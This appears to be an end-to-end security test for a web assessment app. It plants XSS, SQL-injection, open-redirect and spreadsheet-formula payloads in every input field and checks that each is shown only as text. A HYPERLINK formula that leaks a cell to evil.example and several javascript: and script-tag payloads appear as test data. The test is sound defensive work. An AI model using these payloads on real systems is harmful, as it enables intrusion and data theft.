// Hostile text in every free-text field, shown escaped in the browser.
//
// Runs a demo server of its own (E2E_BIN, a fresh data directory and the
// built web/dist), so that the payload units, framework and users it loads
// never show in the other browser tests. Every field a user (or an
// administrator's file) can fill and the web shows gets XSS payloads
// (<img onerror>, <script>, "><svg onload>, javascript:) and SQL payloads
// ('; DROP TABLE answer;--, ' OR '1'='1, Robert'); DROP TABLE user;--):
//
//   through the API: answer comments, the answer of a text question,
//     evidence links and evidence file names, review comments (accept and
//     query), the campaign's title;
//   through the command line: user names and e-mail addresses
//     (`cybercap user add`), unit names and group (region) names
//     (`cybercap init --units`), a framework's title, version, level names,
//     pillar names, questions, guidance and option labels
//     (`cybercap init --framework`);
//   through the address bar: ids in paths and ?campaign, ?next.
//   (Return and validate take no text; the workbook's comments and links go
//   through the same store as the API's, its links checked as http(s).)
//
// Then every page that shows them is opened twice, once with the server's
// Content-Security-Policy and once with CSP bypassed (so that an injected
// handler would really run), and each must show the payload as text (in
// textContent or a form value), hold no element or attribute the payload
// would have made (on* attributes, img[src=x], inline <script>, javascript:
// hrefs), leave window.__xss undefined, open no dialog, request no /x, and
// report no CSP violation. The SQL payloads must read back byte-identical
// and leave the rest of the database as it was. A javascript: evidence link
// staged in the API's answer is shown as text, not as a link; ?next= cannot
// send a signed-in user to another site; a unit named like a spreadsheet
// formula (=HYPERLINK(...)) stays text in the ranking's CSV download and in
// results.xlsx.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { launch, shot } from './helpers.mjs';

const HERE = dirname(fileURLToPath(import.meta.url));
const ROOT = resolve(HERE, '../..');
const BIN = process.env.E2E_BIN;

const XSS = [
  '<img src=x onerror="window.__xss=1">',
  '<script>window.__xss=1</script>',
  '"><svg onload=window.__xss=1>',
  'javascript:window.__xss=1',
];
const SQL = ["'; DROP TABLE answer;--", "' OR '1'='1", "Robert'); DROP TABLE user;--"];
const P = [...XSS, ...SQL].join(' ');
/** A field's value: a label to find it by, then every payload. */
const F = (label) => `${label} ${P}`;

const CID = 'e2e-xss-' + Date.now().toString(36);
const FW = 'xss-test';
const T = {
  campaign: F('Campaign'),
  fwTitle: F('Framework'), fwVersion: F('Version'),
  levelHigh: F('Level high'), levelLow: F('Level low'),
  pa: F('Pillar A'), paGuidance: F('Pillar guidance'), pb: F('Pillar B'),
  qChoice: F('Choice question'), qChoiceGuidance: F('Question guidance'),
  optNone: F('Option none'), optFull: F('Option full'),
  qYn: F('Yes-no question'), qText: F('Text question'), qMulti: F('Multi question'),
  m1: F('Multi one'), m2: F('Multi two'),
  unitA: F('Unit XQA'), unitB: F('Unit XQB'), itu: F('ITU region'), m49: F('M49 region'),
  // a spreadsheet would run this name as a formula in a CSV cell
  unitC: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  focalName: F('Focal point'), reviewerName: F('Reviewer'),
  cChoice: F('Comment on the choice'), cYn: F('Comment on yes-no'), cText: F('Comment on the text'),
  cMulti: F('Comment on multi'), textAnswer: F('Text answer'),
  query: F('Query'), accepted: F('Accepted'),
};
// E-mail addresses: `user add` wants an "@"; the web's sign-in form would
// refuse these (spaces), so the browser gets their session cookie instead.
const FOCAL = `focal'"><svg/onload=window.__xss=1>@e2e.cybercap`;
const REVIEWER = "reviewer <img src=x onerror=window.__xss=1> Robert'); DROP TABLE user;--@e2e.cybercap";
// Links: the server refuses spaces, quotes and angle brackets in them, so
// the SQL payloads go in as they can.
const LINK = "https://example.org/evidence?q='OR'1'='1';DROP/**/TABLE/**/answer;--&r=Robert');DROP/**/TABLE/**/user;--";
// File names: sent as a browser sends them (a quote as %22, which the
// server keeps as it is); the server keeps the part after the last "/".
const FILE_SENT = `%22><svg onload=window.__xss=1><img src=x onerror=window.__xss=1> Robert'); DROP TABLE user;-- ' OR '1'='1.txt`;
const FILE_KEPT = FILE_SENT;

let server, base, data, tmp, logins = {}, pw = {};
let an, fp, rv;                    // API sessions: analyst, focal point of XQA, reviewer
let strict, lax;                   // browsers: with the CSP, and with the CSP bypassed
let before_ = {};                  // the database before the payloads

// ---------------------------------------------------------------- server and API

async function startServer() {
  data = join(tmp, 'd');
  server = spawn(BIN, ['demo', '--data', data, '--listen', '127.0.0.1:0', '--web', join(ROOT, 'web/dist')],
    { stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  server.stderr.on('data', () => {});
  base = await new Promise((ok, fail) => {
    const timer = setTimeout(() => fail(new Error('the demo server did not start: ' + out)), 60000);
    server.stdout.on('data', (b) => {
      out += b;
      const m = /serving (http:\/\/127\.0\.0\.1:\d+)\//.exec(out);
      if (m) { clearTimeout(timer); ok(m[1]); }
    });
    server.on('exit', (code) => fail(new Error(`the demo server exited (${code}): ${out}`)));
  });
  for (const line of readFileSync(join(data, 'demo-logins.txt'), 'utf8').trim().split('\n')) {
    const [, email, password] = line.trim().split(/\s+/);
    logins[email] = password;
  }
}

async function raw(method, path, { cookie, csrf, json, body, type } = {}) {
  const headers = { Accept: 'application/json' };
  if (cookie) headers.Cookie = 'cc_session=' + cookie;
  if (csrf && method !== 'GET') headers['X-CSRF-Token'] = csrf;
  if (json !== undefined) { headers['Content-Type'] = 'application/json'; body = JSON.stringify(json); }
  if (type) headers['Content-Type'] = type;
  const r = await fetch(base + '/api/v1' + path, { method, headers, body });
  const text = await r.text();
  let j = null;
  try { j = JSON.parse(text); } catch { /* not JSON */ }
  return { status: r.status, json: j, text };
}

async function session(email, password) {
  const r = await fetch(base + '/api/v1/session', {
    method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ email, password }),
  });
  assert.equal(r.status, 200, `sign-in of ${email}`);
  const cookie = /cc_session=([^;]*)/.exec(r.headers.get('set-cookie'))[1];
  const { csrf_token: csrf } = await r.json();
  const call = (method, path, opts = {}) => raw(method, path, { cookie, csrf, ...opts });
  call.cookie = cookie;
  return call;
}

function ok(r, status, what) {
  assert.equal(r.status, status, `${what}: ${r.text.slice(0, 300)}`);
  return r.json;
}

/** multipart/form-data with the file name sent byte for byte. */
function form(question, filename, content) {
  const b = '----cybercap' + Math.random().toString(16).slice(2);
  const body = Buffer.concat([
    Buffer.from(`--${b}\r\nContent-Disposition: form-data; name="question"\r\n\r\n${question}\r\n`),
    Buffer.from(`--${b}\r\nContent-Disposition: form-data; name="file"; filename="`),
    Buffer.from(filename, 'utf8'),
    Buffer.from(`"\r\nContent-Type: text/plain\r\n\r\n${content}\r\n--${b}--\r\n`),
  ]);
  return { body, type: 'multipart/form-data; boundary=' + b };
}

function cli(...args) {
  return execFileSync(BIN, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
}

function addUser(email, name, ...grant) {
  const file = join(tmp, 'pw-' + Object.keys(pw).length);
  pw[email] = 'e2e-' + Math.random().toString(36).slice(2, 12);
  writeFileSync(file, pw[email] + '\n');
  cli('user', 'add', '--data', data, '--email', email, '--name', name, '--password-file', file);
  if (grant.length) cli('user', 'grant', '--data', data, '--email', email, ...grant);
}

/** Table names and row counts, read with Python's sqlite3 (read-only). */
function dbState() {
  const code = `import json, sqlite3, sys
c = sqlite3.connect("file:" + sys.argv[1] + "?mode=ro", uri=True)
t = [r[0] for r in c.execute("SELECT name FROM sqlite_master WHERE type='table' ORDER BY name")]
print(json.dumps({n: c.execute('SELECT count(*) FROM "%s"' % n).fetchone()[0] for n in t}))`;
  return JSON.parse(execFileSync('python3', ['-c', code, join(data, 'cybercap.db')], { encoding: 'utf8' }));
}

// ---------------------------------------------------------------- payload files

const y = (s) => JSON.stringify(s);   // a JSON string is a YAML double-quoted scalar
const csv = (s) => '"' + s.replace(/"/g, '""') + '"';

function framework() {
  return `cybercap: 1
id: ${FW}
title: ${y(T.fwTitle)}
version: ${y(T.fwVersion)}
scale: 100
precision: 2
levels:
  - {id: high, name: ${y(T.levelHigh)}, min: 50}
  - {id: low, name: ${y(T.levelLow)}, min: 0}
nodes:
  - id: pa
    name: ${y(T.pa)}
    guidance: ${y(T.paGuidance)}
    children:
      - id: pa.choice
        question: ${y(T.qChoice)}
        type: choice
        options:
          - {id: none, label: ${y(T.optNone)}, value: 0}
          - {id: full, label: ${y(T.optFull)}, value: 1}
        evidence: required
        guidance: ${y(T.qChoiceGuidance)}
      - id: pa.yn
        question: ${y(T.qYn)}
        type: yes_no
  - id: pb
    name: ${y(T.pb)}
    children:
      - id: pb.text
        question: ${y(T.qText)}
        type: text
      - id: pb.multi
        question: ${y(T.qMulti)}
        type: multi
        options:
          - {id: m1, label: ${y(T.m1)}, value: 0.5}
          - {id: m2, label: ${y(T.m2)}, value: 0.5}
`;
}

function unitsFile() {
  return 'iso3,name_en,m49_region,itu_region,ldc,lldc,sids\n' +
    [['XQA', T.unitA], ['XQB', T.unitB], ['XQC', T.unitC]].map(([id, name]) => [id, csv(name), csv(T.m49), csv(T.itu), 'no', 'no', 'yes'].join(',')).join('\n') + '\n';
}

// ---------------------------------------------------------------- the browser side

/** Signs the browser in with the cookie of CALL (an API session), or out (null). */
async function as(b, call) {
  await b.context.clearCookies();
  if (call) await b.context.addCookies([{ name: 'cc_session', value: call.cookie, url: base }]);
}

async function instrument(b) {
  await b.context.addInitScript(() => {
    window.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample || ''}`));
    // Workflow pages ask GET /me only when this browser signed in before.
    try { localStorage.setItem('cybercap.session', '1'); } catch { /* ignore */ }
  });
}

/** What a payload that got through would leave in the page. */
function inspectPage() {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const a of Array.from(el.attributes)) {
      if (/^on/i.test(a.name)) bad.push(`<${el.localName} ${a.name}="${a.value}">`);
      if (/^(href|xlink:href|action|formaction)$/i.test(a.name) && /^\s*(javascript|vbscript|data):/i.test(a.value)) bad.push(`<${el.localName} ${a.name}="${a.value}">`);
      if (/^src$/i.test(a.name) && /^\s*(javascript|vbscript):/i.test(a.value)) bad.push(`<${el.localName} src="${a.value}">`);
    }
    if (el.localName === 'img' && el.getAttribute('src') === 'x') bad.push('<img src=x>');
    if (el.localName === 'script' && (!el.getAttribute('src') || /__xss/.test(el.textContent))) bad.push('inline <script>: ' + el.outerHTML.slice(0, 100));
    if (['iframe', 'object', 'embed', 'base', 'meta', 'link', 'style'].includes(el.localName) && el.closest('body')) bad.push(`<${el.localName}> in the body`);
  }
  const values = Array.from(document.querySelectorAll('input, textarea')).map((e) => e.value);
  return { bad, xss: window.__xss, csp: window.__csp || [], text: document.body.textContent, title: document.title, values };
}

/**
 * Opens PATH in both browsers as CALL (or anonymous), waits for READY,
 * runs ACT, and checks the page: every string of SHOWS is there as text,
 * nothing was injected. NAME names the screenshot (CSP browser only).
 */
async function visit(name, call, path, { ready, act, shows = [], values = [] } = {}) {
  for (const b of [strict, lax]) {
    const label = `${name} (${b === strict ? 'CSP' : 'CSP bypassed'})`;
    await as(b, call);
    const page = await b.context.newPage();
    const dialogs = [], requests = [], console_ = [];
    page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss().catch(() => {}); });
    page.on('request', (r) => {
      const u = new URL(r.url());
      if (/\/x$/.test(u.pathname) || u.origin !== new URL(base).origin) requests.push(r.url());
    });
    page.on('console', (m) => { if (/Content.Security.Policy|Refused to/i.test(m.text())) console_.push(m.text()); });
    try {
      await page.goto(base + path, { waitUntil: 'networkidle' });
      await page.waitForSelector('main h1');
      await page.waitForFunction(() => !document.querySelector('.state-loading'), null, { timeout: 15000 });
      if (ready) await page.locator(ready).first().waitFor({ timeout: 15000 });
      if (act) await act(page);
      await page.waitForLoadState('networkidle');
      const r = await page.evaluate(inspectPage);
      assert.deepEqual(r.bad, [], `${label}: injected markup`);
      assert.equal(r.xss, undefined, `${label}: window.__xss was set`);
      assert.deepEqual(dialogs, [], `${label}: dialogs`);
      assert.deepEqual(requests, [], `${label}: requests the payloads made`);
      assert.deepEqual(r.csp, [], `${label}: CSP violations`);
      assert.deepEqual(console_, [], `${label}: CSP messages`);
      for (const s of shows) {
        assert.ok(r.text.includes(s) || r.title.includes(s), `${label}: "${s.slice(0, 40)}..." is not shown as text`);
      }
      for (const v of values) assert.ok(r.values.includes(v), `${label}: no field holds "${v.slice(0, 40)}..."`);
      if (b === strict) await shot(page, 'security-' + name);
    } finally {
      await page.close();
    }
  }
}

// ---------------------------------------------------------------- setup

before(async () => {
  assert.ok(BIN, 'E2E_BIN names the cybercap binary (tests/e2e/run.sh sets it)');
  tmp = mkdtempSync(join(tmpdir(), 'cybercap-e2e-security-'));
  await startServer();
  before_.db = dbState();
  before_.results = (await raw('GET', '/campaigns/nci-2026/results')).text;
  before_.campaigns = (await raw('GET', '/campaigns')).json.campaigns;
  before_.units = (await raw('GET', '/units')).json.total;
  an = await session('analyst@demo.cybercap', logins['analyst@demo.cybercap']);
  before_.xaa = (await an('GET', '/campaigns/nci-2028/assessments/XAA')).json;

  // What administrators load from files: units, groups, a framework.
  writeFileSync(join(tmp, 'units.csv'), unitsFile());
  writeFileSync(join(tmp, 'fw.yaml'), framework());
  cli('init', '--data', data, '--units', join(tmp, 'units.csv'), '--framework', join(tmp, 'fw.yaml'));

  // The campaign, its users (made with the command line).
  ok(await an('POST', '/campaigns', { json: { id: CID, framework: FW, title: T.campaign, year: 2031, units: ['XQA', 'XQB', 'XQC', 'XAA'] } }), 201, 'create the campaign');
  ok(await an('POST', `/campaigns/${CID}/status`, { json: { status: 'open' } }), 200, 'open it');
  addUser(FOCAL, T.focalName, '--role', 'focal_point', '--unit', 'XQA');
  addUser(REVIEWER, T.reviewerName, '--role', 'reviewer', '--campaign', CID);
  fp = await session(FOCAL, pw[FOCAL]);
  rv = await session(REVIEWER, pw[REVIEWER]);

  strict = await launch();
  lax = await launch({ bypassCSP: true });
  await instrument(strict);
  await instrument(lax);
});

after(async () => {
  await strict?.close();
  await lax?.close();
  if (server && server.exitCode === null) {
    server.kill('SIGTERM');
    await new Promise((r) => server.once('exit', r));
  }
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

const A = (rest = '') => `/campaigns/${CID}/assessments/XQA${rest}`;

// ---------------------------------------------------------------- tests

test('the payloads are stored and read back byte for byte through the API', async () => {
  // the focal point answers, with comments; the text question takes the payload as its answer
  const put = async (qn, answer, comment) => ok(await fp('PUT', A('/answers/' + qn), { json: { answer, comment } }), 200, `answer ${qn}`);
  await put('pa.choice', 'full', T.cChoice);
  await put('pa.yn', 'yes', T.cYn);
  await put('pb.text', T.textAnswer, T.cText);
  await put('pb.multi', 'm1|m2', T.cMulti);
  ok(await fp('POST', A('/evidence'), { json: { question: 'pa.choice', url: LINK } }), 201, 'the link');
  const f = form('pa.choice', FILE_SENT, 'evidence\n');
  ok(await fp('POST', A('/evidence'), { body: f.body, type: f.type }), 201, 'the file');
  // links that are not web addresses are refused
  for (const url of ['javascript:window.__xss=1', 'JavaScript:window.__xss=1//https://x', ' javascript:window.__xss=1',
    'data:text/html,<script>window.__xss=1</script>', 'vbscript:msgbox(1)', 'https://example.org/"><svg onload=window.__xss=1>',
    'https://example.org/<img src=x onerror=window.__xss=1>', "https://example.org/ ' OR '1'='1"]) {
    const r = await fp('POST', A('/evidence'), { json: { question: 'pa.choice', url } });
    assert.equal(r.status, 422, `evidence link ${url}: ${r.text}`);
    assert.equal(r.json.error.field, 'url');
  }

  const a = ok(await fp('GET', A()), 200, 'the assessment');
  assert.deepEqual(
    Object.fromEntries(Object.entries(a.answers).map(([k, v]) => [k, [v.answer, v.comment]])),
    { 'pa.choice': ['full', T.cChoice], 'pa.yn': ['yes', T.cYn], 'pb.text': [T.textAnswer, T.cText], 'pb.multi': ['m1|m2', T.cMulti] });
  assert.deepEqual(a.evidence.map((e) => [e.kind, e.url, e.filename, e.author]),
    [['url', LINK, null, FOCAL], ['file', null, FILE_KEPT, FOCAL]]);
  const h = ok(await fp('GET', A('/answers/pb.text/history')), 200, 'history');
  assert.deepEqual(h.history.map((x) => [x.answer, x.comment, x.author]), [[T.textAnswer, T.cText, FOCAL]]);
  assert.equal(JSON.parse(h.audit[0].after).answer, T.textAnswer);
  assert.equal(h.audit[0].actor, FOCAL);

  const me = ok(await fp('GET', '/me'), 200, 'GET /me');
  assert.equal(me.user.name, T.focalName);
  assert.equal(me.user.email, FOCAL);
  const c = ok(await an('GET', '/campaigns/' + CID), 200, 'the campaign');
  assert.equal(c.title, T.campaign);
  const fw = ok(await raw('GET', '/frameworks/' + FW), 200, 'the framework');
  assert.equal(fw.title, T.fwTitle);
  assert.equal(fw.children[0].children[0].options[1].label, T.optFull);
  const units = ok(await raw('GET', '/units'), 200, 'units').units;
  assert.equal(units.find((u) => u.id === 'XQA').name, T.unitA);
  const groups = ok(await raw('GET', '/groups'), 200, 'groups').groups;
  assert.ok(groups.some((g) => g.name === T.itu) && groups.some((g) => g.name === T.m49), 'the region names as given');
});

test('questionnaire: every payload shows as text while the focal point works', async () => {
  await visit('mywork-focal', fp, '/work', {
    ready: '.card .tag', shows: [T.campaign, T.unitA, T.focalName],
  });
  await visit('questionnaire-pa', fp, A('?section=pa'), {
    ready: '.evidence-list li',
    shows: [T.campaign, T.unitA, T.pa, T.paGuidance, T.qChoice, T.qChoiceGuidance, T.optNone, T.optFull, T.qYn,
      LINK, FILE_KEPT, FOCAL],
    values: [T.cChoice, T.cYn],
  });
  await visit('questionnaire-pb', fp, A('?section=pb'), {
    ready: '.q', shows: [T.pb, T.qText, T.qMulti, T.m1, T.m2], values: [T.textAnswer, T.cText, T.cMulti],
  });
  await visit('questionnaire-history', fp, A('?section=pb'), {
    ready: '.q',
    act: async (page) => {
      const h = page.locator('[id="q-pb.text"] .q-history');
      await h.locator('summary').click();
      await h.locator('.history-list li').first().waitFor();
    },
    shows: [T.textAnswer, T.cText, FOCAL],
  });
  ok(await fp('POST', A('/submit')), 200, 'submit');
});

test('review: answers, comments, evidence and the reviewer\'s own payloads show as text', async () => {
  const review = (question, verdict, comment) => rv('POST', A('/reviews'), { json: { question, verdict, comment } });
  ok(await review('pa.choice', 'accepted', T.accepted), 201, 'accept with a comment');
  ok(await review('pa.yn', 'query', T.query), 201, 'query');
  const a = ok(await rv('GET', A()), 200, 'the assessment');
  assert.deepEqual([a.reviews['pa.choice'].comment, a.reviews['pa.yn'].comment, a.reviews['pa.yn'].reviewer], [T.accepted, T.query, REVIEWER]);
  await visit('mywork-reviewer', rv, '/work', { ready: '.work-campaign tbody tr', shows: [T.campaign, T.unitA, T.unitB, T.reviewerName] });
  await visit('review', rv, `/campaigns/${CID}/review/XQA`, {
    ready: '.review-item',
    shows: [T.campaign, T.unitA, T.qChoice, T.optFull, T.cChoice, T.qYn, T.cYn, T.qText, T.textAnswer, T.cText, T.m1, T.m2, T.cMulti,
      LINK, FILE_KEPT, FOCAL, T.accepted, T.query, REVIEWER],
  });
  ok(await rv('POST', A('/return')), 200, 'return');
  // the focal point sees the query: in the status panel, at the question, in the summary
  await visit('questionnaire-query', fp, A('?section=pa'), {
    ready: '.q-query', shows: [T.query, REVIEWER, T.qYn],
  });
  await visit('questionnaire-summary', fp, A('?section=_submit'), {
    ready: '#section-title', shows: [T.query, T.pa, T.pb],
  });
  ok(await fp('PUT', A('/answers/pa.yn'), { json: { answer: 'no', comment: T.cYn } }), 200, 'answer again');
  ok(await fp('POST', A('/submit')), 200, 'submit again');
  await visit('questionnaire-readonly', fp, A('?section=pb'), {
    ready: '.q', shows: [T.textAnswer, T.cText, T.cMulti, T.m1, T.m2],
  });
});

test('campaign page, validation and publication; the published pages show names as text', async () => {
  await visit('campaign', an, `/campaigns/${CID}`, { ready: '.work-table tbody tr', shows: [T.campaign, T.unitA, T.unitB] });
  ok(await an('POST', A('/validate')), 200, 'validate');
  for (const status of ['review', 'closed', 'published']) ok(await an('POST', `/campaigns/${CID}/status`, { json: { status } }), 200, status);

  const pub = `campaign=${CID}`;
  await visit('overview', null, `/?${pub}`, { ready: '#campaign', shows: [T.campaign, T.unitA, T.unitB] });
  await visit('rankings', null, `/rankings?${pub}`, { ready: 'table tbody tr', shows: [T.campaign, T.unitA, T.unitB, T.unitC, T.levelHigh, T.levelLow] });
  await visit('rankings-pillar', null, `/rankings?${pub}&node=pa`, { ready: 'table tbody tr', shows: [T.pa, T.unitA] });
  await visit('profile', null, `/units/XQA?${pub}`, { ready: 'main h1', shows: [T.unitA, T.campaign, T.levelHigh, T.pa, T.pb, T.itu] });
  await visit('compare', null, `/compare?${pub}&units=XQA,XQB,XAA`, { ready: 'table', shows: [T.unitA, T.unitB, T.pa] });
  await visit('robustness', null, `/robustness?${pub}`, { ready: '.rb-factors, form', shows: [T.campaign] });
  await visit('framework', null, `/frameworks/${FW}?${pub}`, {
    ready: 'main h1', shows: [T.fwTitle, T.pa, T.paGuidance, T.qChoice, T.optFull, T.qText, T.m2, T.levelHigh],
  });
});

test('exports: a name a spreadsheet would run as a formula stays text', async () => {
  // the web's own CSV of the ranking table
  const page = await strict.context.newPage();
  try {
    await as(strict, null);
    await page.goto(`${base}/rankings?campaign=${CID}`, { waitUntil: 'networkidle' });
    await page.locator('table tbody tr').first().waitFor();
    const [dl] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download this table (CSV)' }).click()]);
    const text = readFileSync(await dl.path(), 'utf8');
    assert.ok(text.includes(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`), text);
    for (const cell of text.split(/[\r\n]+/).flatMap((l) => l.split(','))) assert.doesNotMatch(cell, /^"?[=+\-@]/, `a cell a spreadsheet would run: ${cell}`);
  } finally {
    await page.close();
  }
  // the workbook: the name is a text cell, and no cell is a formula
  const r = await fetch(`${base}/api/v1/campaigns/${CID}/results.xlsx`);
  assert.equal(r.status, 200);
  const file = join(tmp, 'results.xlsx');
  writeFileSync(file, Buffer.from(await r.arrayBuffer()));
  const code = `import sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
print(sum(z.read(n).count(b"<f") for n in sheets), z.read("xl/sharedStrings.xml").decode().count("=HYPERLINK("))`;
  assert.equal(execFileSync('python3', ['-c', code, file], { encoding: 'utf8' }).trim(), '0 1', 'formulas in the workbook, and the name as a shared string');
  // results.csv holds ids only (here XQC), written as cybercap score writes them
  const csvText = await (await fetch(`${base}/api/v1/campaigns/${CID}/results.csv`)).text();
  assert.match(csvText, /^XQC,xss-test,/m);
});

test('a javascript: link that reached the data is shown as text, never as a link', async () => {
  const bad = ['javascript:window.__xss=1', ' JavaScript:window.__xss=1', 'data:text/html,<script>window.__xss=1</script>', 'vbscript:msgbox(1)'];
  const stage = async (b) => {
    await b.context.route(`**/api/v1/campaigns/${CID}/assessments/XQA`, async (route) => {
      const r = await route.fetch();
      const a = await r.json();
      bad.forEach((url, i) => a.evidence.push({ id: 9000 + i, question: 'pa.choice', kind: 'url', url, filename: null, mime: null, size: 0, author: FOCAL, at: '2031-01-01T00:00:00Z' }));
      await route.fulfill({ response: r, json: a });
    });
  };
  await stage(strict);
  await stage(lax);
  try {
    const clickAll = async (page) => {
      // whatever shows them, following them must do nothing
      for (const el of await page.locator('.evidence-list li :text("vbscript:"), .evidence-list li :text("avascript:")').all()) await el.click().catch(() => {});
    };
    await visit('bad-links-questionnaire', fp, A('?section=pa'), { ready: '.evidence-list li', act: clickAll, shows: bad.map((s) => s.trim()) });
    await visit('bad-links-review', an, `/campaigns/${CID}/review/XQA`, { ready: '.review-item', act: clickAll, shows: bad.map((s) => s.trim()) });
  } finally {
    await strict.context.unroute(`**/api/v1/campaigns/${CID}/assessments/XQA`);
    await lax.context.unroute(`**/api/v1/campaigns/${CID}/assessments/XQA`);
  }
});

test('ids and parameters from the address bar are shown as text', async () => {
  const p = encodeURIComponent(P);
  await visit('bad-campaign-param', null, `/rankings?campaign=${p}`, { shows: [P] });
  await visit('bad-unit-path', null, `/units/${p}?campaign=${CID}`, { shows: [] });
  await visit('bad-framework-path', null, `/frameworks/${p}`, { shows: [] });
  await visit('bad-campaign-path', an, `/campaigns/${p}`, { shows: [P] });
  await visit('bad-assessment-path', an, `/campaigns/${CID}/assessments/${p}`, { shows: [] });
  await visit('bad-review-path', an, `/campaigns/${CID}/review/${p}`, { shows: [] });
  await visit('bad-compare-param', null, `/compare?campaign=${CID}&units=${p}`, { shows: [] });
});

test('?next= after signing in stays on this site', async () => {
  const evil = ['/\\evil.example/', '/%5Cevil.example/', '/\t/evil.example/', '//evil.example/', '/\\/evil.example/',
    'https://evil.example/', 'javascript:window.__xss=1'];
  const b = strict;
  const page = await b.context.newPage();
  const away = [];
  page.on('request', (r) => { if (!r.url().startsWith(base)) away.push(r.url()); });
  try {
    // signed in already: the "Continue" link
    await as(b, an);
    for (const next of evil) {
      await page.goto(base + '/signin?next=' + encodeURIComponent(next), { waitUntil: 'networkidle' });
      const link = page.getByRole('link', { name: /Continue/ });
      await link.waitFor();
      const href = await link.evaluate((a) => a.href);
      assert.equal(new URL(href).origin, new URL(base).origin, `next=${JSON.stringify(next)} gives the link ${href}`);
    }
    // signing in with the form
    await as(b, null);
    for (const next of evil.slice(0, 3)) {
      await page.goto(base + '/signin?next=' + encodeURIComponent(next), { waitUntil: 'networkidle' });
      await page.fill('#email', 'analyst@demo.cybercap');
      await page.fill('#password', logins['analyst@demo.cybercap']);
      await page.click('form.form button[type=submit]');
      await page.waitForURL((u) => !u.pathname.startsWith('/signin'));
      await page.waitForLoadState('networkidle');
      assert.equal(new URL(page.url()).origin, new URL(base).origin, `after signing in with next=${JSON.stringify(next)}: ${page.url()}`);
      await page.getByRole('button', { name: 'Sign out' }).click();
      await page.waitForURL((u) => u.pathname === '/signin');
    }
    assert.deepEqual(away, [], 'requests to another site');
  } finally {
    await page.close();
  }
});

test('the SQL payloads changed nothing else: the database is whole', async () => {
  // published results of the demo, its campaigns, units and answers as before
  assert.equal((await raw('GET', '/campaigns/nci-2026/results')).text, before_.results, 'nci-2026 results');
  const camps = ok(await raw('GET', '/campaigns'), 200, 'campaigns').campaigns;
  for (const c of before_.campaigns) {
    const now = camps.find((x) => x.id === c.id);
    assert.ok(now, `campaign ${c.id} is still there`);
    if (c.status === 'published') assert.deepEqual(now, c, `published campaign ${c.id}`);
    else assert.deepEqual([now.title, now.units, now.status], [c.title, c.units, c.status], `campaign ${c.id}`);
  }
  assert.ok(camps.some((c) => c.id === CID && c.title === T.campaign && c.status === 'published'));
  assert.equal(ok(await raw('GET', '/units'), 200, 'units').total, before_.units + 3, 'units: the demo\'s and XQA, XQB, XQC');
  const xaa = ok(await an('GET', '/campaigns/nci-2028/assessments/XAA'), 200, 'nci-2028 XAA');
  assert.deepEqual(xaa.answers, before_.xaa.answers, 'the answers of another assessment');
  // the demo's accounts still sign in; the payload users are listed as given
  for (const email of Object.keys(logins)) await session(email, logins[email]);
  const users = cli('user', 'list', '--data', data);
  assert.ok(users.includes(FOCAL) && users.includes(T.focalName) && users.includes(REVIEWER), users);
  // every table is still there; rows were only added
  const now = dbState();
  assert.deepEqual(Object.keys(now), Object.keys(before_.db), 'the tables');
  for (const [t, n] of Object.entries(before_.db)) {
    if (t !== 'session') assert.ok(now[t] >= n, `table ${t}: ${n} rows before, ${now[t]} after`);
  }
  assert.ok(now.answer > before_.db.answer && now.user === before_.db.user + 2, JSON.stringify(now));
  // the audit trail verifies
  assert.match(cli('audit', 'verify', '--data', data), /audit trail intact/);
});

test('no script errors on the pages', async () => {
  // Refusals the tests ask for (404 unknown ids, 401/403) are logged by the
  // browser as failed loads; nothing else may be.
  for (const b of [strict, lax]) {
    assert.deepEqual(b.errors.filter((e) => !/status of (401|403|404|409|422)/.test(e)), []);
  }
});
